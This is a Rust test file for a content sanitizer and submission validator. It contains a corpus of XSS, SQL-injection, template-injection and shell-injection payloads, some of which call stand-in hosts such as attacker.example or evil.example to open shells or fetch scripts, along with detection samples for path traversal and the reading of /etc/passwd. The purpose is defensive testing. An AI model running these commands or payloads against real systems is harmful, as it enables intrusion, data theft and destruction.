//! Guard Module Tests
//!
//! Sanitizer guarantees over an adversarial corpus, plus the admission
//! rules exercised through `comprehensive_validation`.

use crate::guard::{
    comprehensive_validation, contains_dangerous_pattern, html, is_spammy, sanitize,
    sanitize_submission, scan_threats, validate_domain, SanitizeMode, ThreatCategory,
    FILTERED_MARKER,
};
use crate::models::RawSubmission;

/// Injection payloads collected from common XSS/SQLi/command cheat sheets.
const FUZZ_CORPUS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(document.cookie)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:void(0)\">click</a>",
    "<body onload=eval(atob('YWxlcnQoMSk='))>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;eval(name)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "java\nscript:alert(1)",
    "VBScript:MsgBox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "' UNION SELECT username, password FROM users --",
    "1; DROP TABLE articles; --",
    "'; DELETE FROM sessions WHERE 1=1; --",
    "INSERT INTO admins VALUES ('eve')",
    "UPDATE users\nSET role = 'admin'",
    "EXEC(xp_cmdshell 'dir')",
    "; EXECUTE ('sp_configure')",
    "file.txt | nc attacker.example 4444",
    "x | netcat -e /bin/sh host 1",
    "name; rm -rf / --no-preserve-root",
    "a;curl http://evil.example/x.sh | sh",
    "b; wget http://evil.example/payload",
    "`whoami`",
    "$(cat /etc/passwd)",
    "cat /etc/shadow",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "{{7*7}}",
    "{{ config.items() }}",
    "{% for x in range(10) %}",
    "{$smarty.version}",
    "<<script>script>alert(1)<</script>/script>",
    "on\u{0}click=alert(1)",
    "Hello\r\nWorld\0 <b>bold</b> &amp; more",
    "Plain prose with no hazards at all.",
    "",
    "   \t\n  ",
    "🚀 unicode ☃ text ünïcödé",
];

mod sanitize_guarantee_tests {
    use super::*;

    #[test]
    fn test_no_pattern_survives_stripped() {
        for input in FUZZ_CORPUS {
            let output = sanitize(input, SanitizeMode::Stripped);
            assert!(
                !contains_dangerous_pattern(&output),
                "pattern survived stripped sanitize: {:?} -> {:?}",
                input,
                output
            );
        }
    }

    #[test]
    fn test_no_pattern_survives_escaped() {
        for input in FUZZ_CORPUS {
            let output = sanitize(input, SanitizeMode::Escaped);
            assert!(
                !contains_dangerous_pattern(&output),
                "pattern survived escaped sanitize: {:?} -> {:?}",
                input,
                output
            );
        }
    }

    #[test]
    fn test_no_pattern_survives_in_table_samples() {
        // Every table row matched in the middle of harmless text
        let samples = [
            "before <script>x</script> after",
            "before <iframe>x</iframe> after",
            "see javascript:run now",
            "see vbscript:run now",
            "tag onmouseover = steal",
            "call alert (1) now",
            "call eval(code) now",
            "read document.cookie now",
            "a union select b",
            "a drop table b",
            "a delete from b",
            "a insert into b",
            "a update t set b",
            "a exec(b) c",
            "a execute(b) c",
            "a xp_cmdshell b",
            "a | nc host",
            "a | netcat host",
            "a; rm file",
            "a; curl url",
            "a; wget url",
            "a `id` b",
            "a $(id) b",
            "a cat /etc/hosts b",
            "a ../ b",
            "a ..\\ b",
            "a {{x}} b",
            "a {% x %} b",
            "a {$x} b",
            "<img src=x onerror=y>",
            "<svg x onload=y>",
            "a data:text/html,b",
            "a data:image/svg+xml,b",
        ];
        for sample in samples {
            assert!(contains_dangerous_pattern(sample), "sample should match: {}", sample);
            for mode in [SanitizeMode::Stripped, SanitizeMode::Escaped] {
                let output = sanitize(sample, mode);
                assert!(!contains_dangerous_pattern(&output), "{:?} -> {:?}", sample, output);
            }
        }
    }

    #[test]
    fn test_stripped_is_idempotent_without_entities() {
        for input in FUZZ_CORPUS.iter().filter(|s| !s.contains('&')) {
            let once = sanitize(input, SanitizeMode::Stripped);
            let twice = sanitize(&once, SanitizeMode::Stripped);
            assert_eq!(once, twice, "not idempotent for {:?}", input);
        }
    }

    #[test]
    fn test_double_encoded_entities_decode_further() {
        let once = sanitize("&amp;lt;b&amp;gt;bold", SanitizeMode::Stripped);
        assert_eq!(once, "&lt;b&gt;bold");
        let twice = sanitize(&once, SanitizeMode::Stripped);
        assert_eq!(twice, "<b>bold");
        assert_eq!(sanitize(&twice, SanitizeMode::Stripped), "bold");
    }

    #[test]
    fn test_escaped_round_trip() {
        let inputs = [
            "Tom & Jerry said \"hi\" and it's 5 > 3",
            "Quotes 'single' and \"double\"",
            "Ampersands && more & more",
            "Plain text stays plain",
        ];
        for input in inputs {
            let escaped = sanitize(input, SanitizeMode::Escaped);
            assert_eq!(html::unescape(&escaped), sanitize(input, SanitizeMode::Stripped));
        }
    }

    #[test]
    fn test_output_has_collapsed_whitespace() {
        for input in FUZZ_CORPUS {
            let output = sanitize(input, SanitizeMode::Stripped);
            assert_eq!(output, output.trim());
            assert!(!output.contains("  "), "double space in {:?}", output);
            assert!(!output.contains('\n') && !output.contains('\r') && !output.contains('\0'));
        }
    }

    #[test]
    fn test_marker_replaces_hazards() {
        let output = sanitize("Nice post <b>bold</b> then `rm -rf` end", SanitizeMode::Stripped);
        assert_eq!(output, format!("Nice post bold then {} end", FILTERED_MARKER));
    }
}

mod validation_tests {
    use super::*;

    const BODY: &str = "Solar farms across the region doubled their output this year. \
        Engineers credit improved panel efficiency and better storage systems. \
        Local councils expect further growth as costs keep falling.";

    #[test]
    fn test_suspicious_domains_mention_suspicious() {
        for domain in ["bit.ly", "tinyurl.com", "phishing.com"] {
            let reason = validate_domain(domain).unwrap_err();
            assert!(reason.to_string().contains("suspicious"));
        }
    }

    #[test]
    fn test_empty_submission_message() {
        let outcome = comprehensive_validation(&RawSubmission::default());
        assert_eq!(
            outcome.messages(),
            vec!["Missing required fields: domain, title, body".to_string()]
        );
    }

    #[test]
    fn test_spam_body_rejected() {
        let raw = RawSubmission::new("example.com", "Great deal", "buy now ".repeat(50));
        let outcome = comprehensive_validation(&raw);
        assert!(!outcome.accepted);
        assert_eq!(
            outcome.messages(),
            vec!["Article validation failed: Content appears to be spam or auto-generated".to_string()]
        );
        assert!(is_spammy(&"buy now ".repeat(50)));
    }

    #[test]
    fn test_injection_in_every_field() {
        let raw = RawSubmission::new(
            "example.com/../etc",
            "{{7*7}} title",
            format!("{} $(cat /etc/passwd)", BODY),
        );
        let outcome = comprehensive_validation(&raw);
        assert!(!outcome.accepted);
        // Domain fails the hostname grammar first; body checks do not scan for patterns
        assert_eq!(outcome.reasons.len(), 2);
        assert_eq!(outcome.messages()[0], "Domain validation failed: Invalid domain format");
        assert_eq!(
            outcome.messages()[1],
            "Title validation failed: Title contains suspicious patterns"
        );
    }

    #[test]
    fn test_accepted_submission_sanitizes_cleanly() {
        let raw = RawSubmission::new(" Example.com ", "Solar <em>growth</em>", BODY);
        assert!(comprehensive_validation(&raw).accepted);

        let sanitized = sanitize_submission(&raw);
        assert_eq!(sanitized.domain, "Example.com");
        assert_eq!(sanitized.title, "Solar growth");
        assert_eq!(sanitized.body, BODY);
    }

    #[test]
    fn test_scan_reports_categories() {
        let threats = scan_threats("x; rm -rf / and ../../ and {{x}}");
        let categories: Vec<ThreatCategory> = threats.iter().map(|t| t.category).collect();
        assert!(categories.contains(&ThreatCategory::Command));
        assert!(categories.contains(&ThreatCategory::PathTraversal));
        assert!(categories.contains(&ThreatCategory::Template));
    }
}
